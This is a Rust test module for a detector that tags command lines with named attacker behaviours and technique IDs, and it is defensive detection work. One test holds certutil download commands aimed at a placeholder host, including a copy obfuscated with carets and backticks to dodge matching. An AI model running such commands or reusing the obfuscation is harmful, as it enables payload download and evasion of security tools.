use super::*;
use crate::text::catalog::{CATALOG, Family};
use crate::text::features::Featurizer;

/// Name, a line for which the behaviour holds, and a near miss.
fn cases() -> Vec<[&'static str; 3]> {
    include_str!("cases.tsv")
        .lines()
        .map(|line| {
            let mut columns = line.split('\t');
            [(); 3].map(|()| columns.next().unwrap_or_default())
        })
        .collect()
}

#[test]
fn every_behaviour_has_one_row_of_cases_and_every_row_a_behaviour() {
    let cases = cases();
    for behavior in all() {
        assert_eq!(
            cases
                .iter()
                .filter(|[name, ..]| *name == behavior.name)
                .count(),
            1,
            "{}",
            behavior.name
        );
    }
    assert_eq!(cases.len(), all().count());
    assert!(
        cases
            .iter()
            .all(|[_, positive, near_miss]| !positive.is_empty() && !near_miss.is_empty())
    );
}

#[test]
fn every_behaviour_holds_for_its_line_and_not_for_the_near_miss() {
    let mut featurizer = Featurizer::new();
    let mut wrong = Vec::new();
    for [name, positive, near_miss] in cases() {
        if !featurizer.behaviors(positive).contains(&name) {
            wrong.push(format!("{name} misses {positive}"));
        }
        if featurizer.behaviors(near_miss).contains(&name) {
            wrong.push(format!("{name} holds for {near_miss}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn behaviours_are_blind_to_case_carets_and_backticks() {
    let mut featurizer = Featurizer::new();
    for line in [
        "CERTUTIL -UrlCache -f HTTP://x/a b",
        "c^ertutil -url`cache -f h^ttp://x/a b",
    ] {
        assert!(
            featurizer.behaviors(line).contains(&"certutil_downloader"),
            "{line}"
        );
    }
}

#[test]
fn names_are_unique_and_techniques_are_well_formed() {
    let names: std::collections::BTreeSet<_> = all()
        .map(|behavior| behavior.name.to_ascii_lowercase())
        .collect();
    assert_eq!(names.len(), all().count());
    for Behavior {
        name, technique, ..
    } in all()
    {
        let digits = technique.strip_prefix('T').unwrap_or_default();
        assert!(matches!(digits.len(), 4 | 8), "{name}");
        assert!(
            digits.bytes().enumerate().all(|(at, b)| if at == 4 {
                b == b'.'
            } else {
                b.is_ascii_digit()
            }),
            "{name}"
        );
    }
}

#[test]
fn every_tag_among_the_features_is_a_behaviour_of_that_technique() {
    let tags = CATALOG
        .iter()
        .filter(|feature| feature.family == Family::Behavior);
    for feature in tags {
        let Some(tag) = feature.name.strip_prefix("tag_") else {
            continue;
        };
        let behavior = all().find(|behavior| behavior.name.eq_ignore_ascii_case(tag));
        assert_eq!(
            behavior.map(|behavior| Some(behavior.technique)),
            Some(feature.technique),
            "{tag}"
        );
    }
}
